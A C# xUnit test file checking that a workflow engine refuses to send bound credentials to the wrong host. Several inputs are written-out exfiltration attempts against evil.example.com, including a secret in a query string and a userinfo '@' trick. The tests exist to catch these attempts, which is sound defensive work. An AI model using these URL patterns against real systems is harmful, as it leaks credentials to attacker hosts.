using HtmxFlows.Credentials;
using HtmxFlows.Tests.Credentials;
using HtmxFlows.Tests.Nodes;
using HtmxFlows.Workflows;

namespace HtmxFlows.Tests.Workflows;

public sealed class FlowCredentialTests
{
    static readonly Guid Own = Guid.NewGuid();

    [Theory]
    [InlineData("""a http {"url": "https://crm.example.com/x", "credential": "CRM"}""")]
    [InlineData("""a http {"url": "https://{{prompt}}/x", "credential": "CRM"}""")]
    [InlineData("""a http {"url": "{{prompt}}", "credential": "CRM"}""")]
    [InlineData("""a http {"url": "https://crm.example.com", "credential": ""}""")]
    [InlineData("""a http {"url": "https://bound.example.com/{{prompt}}", "authentication": "bearer", "token": "{{secrets.BOUND}}"}""")]
    [InlineData("""a model {"prompt": "x", "credential": "AI"}""")]
    [InlineData("""a agent {"prompt": "x", "credential": "AI", "servers": [{"url": "https://crm.example.com/{{secrets.BOUND}}", "credential": "CRM"}]}""")]
    public void What_may_be_sent_is_no_problem(string flow) => Assert.Empty(Problems(flow));

    [Theory]
    [InlineData("""a http {"url": "https://crm.example.com", "credential": "NOPE"}""", "a credential: There is no credential “NOPE” on this server. An owner can make it under Credentials, or choose another one.")]
    [InlineData("""a http {"url": "https://crm.example.com", "credential": "THEIRS"}""", "a credential: This workflow may not use the credential “THEIRS”. An owner can allow it under Credentials, or choose another one.")]
    [InlineData("""a http {"url": "https://evil.example.com/{{prompt}}", "credential": "CRM"}""", "a url: “CRM” is bound to crm.example.com and is not sent to evil.example.com. Call a host that it is bound to, or ask an owner to bind it to this one.")]
    [InlineData("""a http {"url": "https://crm.example.com@evil.example.com", "credential": "CRM"}""", "a url: “CRM” is bound to crm.example.com and is not sent to evil.example.com. Call a host that it is bound to, or ask an owner to bind it to this one.")]
    [InlineData("""a http {"url": "https://evil.example.com?k={{upper secrets.BOUND}}"}""", "a url: “BOUND” is bound to bound.example.com and is not sent to evil.example.com. Call a host that it is bound to, or ask an owner to bind it to this one.")]
    [InlineData("""a http {"url": "https://crm.example.com", "credential": "AI"}""", "a credential: The credential “AI” is of the kind model key, which cannot be used here. Choose one of the kind bearer token, header, user and password, query parameter, oauth 2 client, oauth 2 account.")]
    [InlineData("""a model {"prompt": "x", "credential": "OTHER_AI"}""", "a credential: “OTHER_AI” is bound to ai.example.com and is not sent to api.openai.com. Call a host that it is bound to, or ask an owner to bind it to this one.")]
    [InlineData("""a agent {"prompt": "x", "credential": "CRM", "tools": [{"workflow": "x"}]}""", "a credential: The credential “CRM” is of the kind bearer token, which cannot be used here. Choose one of the kind model key.")]
    public void What_may_not_be_sent_is_a_problem_of_its_field(string flow, string problem) => Assert.Equal([problem], Problems(flow));

    [Fact]
    public void Without_its_surroundings_a_flow_is_checked_when_it_runs() => Assert.Empty(FlowPlan.Make(Flows.Of("""a http {"url": "https://a.example.com", "credential": "NOPE"}"""), NodeTypes.Catalogue).Problems);

    static string[] Problems(string flow)
    {
        var source = new CredentialSource(new([], hosts: new Dictionary<string, HostPatterns>()));
        var theirs = Samples.Open("THEIRS", "bearer", "crm.example.com", "token", "their sesame");
        source.Use(
        [
            Samples.Open("CRM", "bearer", "crm.example.com", "token", "open sesame"), Samples.Open("AI", "model-key", "api.openai.com", "key", "model sesame"),
            Samples.Open("OTHER_AI", "model-key", "ai.example.com", "key", "other sesame"),
            Samples.Open("BOUND", "secret", "bound.example.com", "value", "bound sesame"), theirs with { Credential = theirs.Credential with { Workflows = [Guid.NewGuid()] } },
        ]);
        return [.. FlowPlan.Make(Flows.Of(flow), NodeTypes.Catalogue, new(source.Current.For(Own), _ => null)).Problems.Select(problem => $"{problem.Node} {problem.Field}: {problem.Message}")];
    }
}
